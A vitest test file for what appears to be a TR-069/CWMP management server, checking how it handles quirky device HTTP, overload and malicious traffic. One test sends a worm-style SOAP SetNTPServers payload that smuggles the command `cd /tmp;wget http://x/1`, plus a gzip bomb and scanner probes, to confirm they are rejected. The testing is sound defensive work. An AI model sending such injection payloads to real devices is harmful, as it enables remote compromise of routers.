import net from 'node:net';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { heard, methodOf, ScriptedCpe } from '../support/cpe.ts';
import { sharedLogin } from '../support/muster.ts';
import { until } from '../support/until.ts';
import { expectManageable, ssid } from './support/manageable.ts';
import { quirkStage } from './support/stage.ts';
import { upgraded } from './support/upgrade.ts';

describe('HTTP as devices speak it', () => {
  const stage = quirkStage();

  test('14 requests in chunks: they are read to their end, and nothing is concluded from a missing length', async () => {
    await expectManageable(await stage.gateway(14));
  });

  test('15 chunked answers cannot be read: every answer has its length', async () => {
    const gateway = await stage.gateway(15);
    await expectManageable(gateway);
    await gateway.done({ kind: 'refresh', paths: ['Device.WiFi.', 'Device.Ethernet.'] });
    const paths = (await gateway.parameters()).map(({ path }) => path);
    expect(JSON.stringify(paths).length).toBeGreaterThan(5_000);
    expect(await gateway.done({ kind: 'getParameterValues', paths })).toMatchObject({ state: 'succeeded' });
    expect(gateway.statistics.failedSessions).toBe(0);
    const { headers } = await stage.scripted().inform();
    expect(Number(headers['content-length'])).toBeGreaterThan(100);
    expect(headers).not.toHaveProperty('transfer-encoding');
  });

  test('16 the body comes only after 100 Continue: the device is told to go on', async () => {
    await expectManageable(await stage.gateway(16));
  });

  test('17 compressed bodies: unpacked up to a limit; the answer is compressed only for who compresses', async () => {
    await expectManageable(await stage.gateway(17));
    const bomb = gzipSync(Buffer.alloc(20_000_000, ' '));
    const bomber = stage.scripted();
    expect((await bomber.post(bomb, { 'Content-Encoding': 'gzip' })).status).toBe(413);
    const plain = stage.scripted();
    const { status, headers } = await plain.post(plain.informEnvelope(), { 'Accept-Encoding': 'gzip' });
    expect([status, headers['content-encoding']]).toEqual([200, undefined]);
  });

  test('18 a Content-Encoding nobody knows: 415 at once, and the device may try again without', async () => {
    const gateway = await stage.gateway(18);
    await expectManageable(gateway);
    const cpe = stage.scripted();
    await cpe.inform();
    const reply = await cpe.post('whatever', { 'Content-Encoding': 'x-muster' });
    expect([reply.status, reply.headers['accept-encoding']]).toEqual([415, 'gzip, deflate']);
    expect((await cpe.empty()).status).toBe(204);
  });

  test.each([
    ['19', 'text/xml; charset=ISO-8859-1'],
    ['19b', 'charset=utf-8,text/xml'],
    ['19c', 'only the declaration says ISO-8859-1'],
    ['19d', 'charset=utf8mb4'],
  ] as const)(
    '19 character sets of all sorts: decoded by name, else as UTF-8, else as Latin-1 (%s: %s)',
    async (name, _how) => {
      const gateway = await stage.gateway(name === '19' ? 19 : name);
      await gateway.done({ kind: 'getParameterValues', paths: [ssid] });
      expect((await gateway.parameter(ssid))?.value).toBe('Café Zoë');
      await expectManageable(gateway);
    },
  );

  test('20 a body that is cut off: nothing of it counts, the retry is the first that is known', async () => {
    const gateway = await stage.gateway(20);
    await expectManageable(gateway, { failedSessions: 1 });
    const [first] = await gateway.timeline('inform');
    expect(first).toMatchObject({ events: [{ code: '0 BOOTSTRAP' }, { code: '1 BOOT' }], retryCount: 1 });
  });

  test('22 a reboot instead of an end after TransferCompleteResponse: a normal end, and nothing is done twice', async () => {
    const gateway = await stage.gateway(22);
    const upgrade = await upgraded(stage, gateway);
    expect(upgrade).toMatchObject({ state: 'succeeded', attempt: 1, result: { version: '2.0.0' } });
    await until('it is back from its second boot', () => gateway.statistics.activity === 'idle');
    expect(gateway.statistics).toMatchObject({ downloads: 1, completesAcknowledged: 1, version: '2.0.0' });
    expect(await gateway.timeline('transfer')).toHaveLength(1);
  });

  test.each(['1.0', '1.1', '1.2'] as const)(
    '23 an answer in another CWMP namespace ends everything: the namespace of the device is used (%s)',
    async (cwmpVersion) => {
      const gateway = await stage.gateway(23, { cwmpVersion });
      await expectManageable(gateway);
      expect((await gateway.device()).cwmpVersion).toBe(cwmpVersion);
    },
  );

  test('24 the XML declaration is needed: every answer begins with it', async () => {
    await expectManageable(await stage.gateway(24));
  });

  test('26 worms and scanners: sent off before anything is asked of the database, and told nothing', async () => {
    const { acs } = stage.muster.urls;
    const before = await stage.refused();
    const worm = await fetch(acs, {
      method: 'POST',
      headers: { SOAPAction: 'urn:dslforum-org:service:Time:1#SetNTPServers', 'Content-Type': 'text/xml' },
      body: '<?xml version="1.0"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers><NewNTPServer1>`cd /tmp;wget http://x/1`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>',
    });
    const scanner = await fetch(new URL('/cgi-bin/luci', acs));
    for (const [answer, status] of [
      [worm, 400],
      [scanner, 405],
    ] as const) {
      expect(answer.status).toBe(status);
      expect(answer.headers.get('connection')).toBe('close');
      expect(await answer.text()).not.toMatch(/\bat .*\(|\.ts|node:/);
    }
    const gibberish = await new Promise<string>((resolve) => {
      const socket = net.connect(Number(new URL(acs).port), '127.0.0.1', () => socket.write('\x16\x03\x01\x02\0\x01'));
      let said = '';
      socket.on('data', (bytes) => (said += bytes));
      socket.on('close', () => resolve(said));
    });
    expect(gibberish).not.toMatch(/\bat .*\(|\.ts|node:/);
    const after = await stage.refused();
    expect(after['foreign']).toBe((before['foreign'] ?? 0) + 1);
    expect(after['method']).toBe((before['method'] ?? 0) + 1);
    await expectManageable(await stage.gateway([]));
  });
});

describe('an overloaded Muster', () => {
  const stage = quirkStage({ limits: { maxSessions: 1, deviceInformsPerMinute: 12 } });

  test('21 503 is taken in different ways: Retry-After is spread, and a device that never stops is stopped at the door', async () => {
    const occupant = stage.scripted();
    await occupant.inform();
    const gateway = await stage.gateway(21, { settled: false, retryScale: 100 });
    const waits = new Set<string>();
    for (let i = 0; i < 12; i++) {
      const cpe = new ScriptedCpe(stage.muster.urls.acs, 'W', sharedLogin);
      const { status, headers } = await cpe.send({ body: cpe.informEnvelope() });
      expect(status).toBe(503);
      waits.add(headers['retry-after']!);
      await cpe.leave();
    }
    expect(waits.size).toBeGreaterThan(2);
    await until('it was sent away', () => gateway.statistics.failedSessions >= 3);
    expect(await stage.known(gateway.id)).toBeNull();
    await occupant.leave();
    occupant.cookie = null;
    await gateway.settled();
    await expectManageable(gateway, { failedSessions: gateway.statistics.failedSessions });

    const endless = stage.scripted();
    const statuses: number[] = [];
    for (let i = 0; i < 15; i++) {
      const reply = await endless.inform();
      statuses.push(reply.status);
      if (reply.status === 200) expect((await endless.empty()).status).toBe(204);
    }
    expect(statuses).toEqual([...Array(12).fill(200), ...Array(3).fill(503)]);
    const other = stage.scripted();
    expect(methodOf(heard(await other.inform()))).toBe('Inform');
  });
});

describe('networks without a challenge', () => {
  const stage = quirkStage({ environment: { MUSTER_CPE_NO_CHALLENGE_NETWORKS: '127.0.0.0/8' } });

  test('25 a 401 is the end for it: in networks that are named, the network is the proof', async () => {
    await expectManageable(await stage.gateway(25, { sharedLogin }));
  });
});
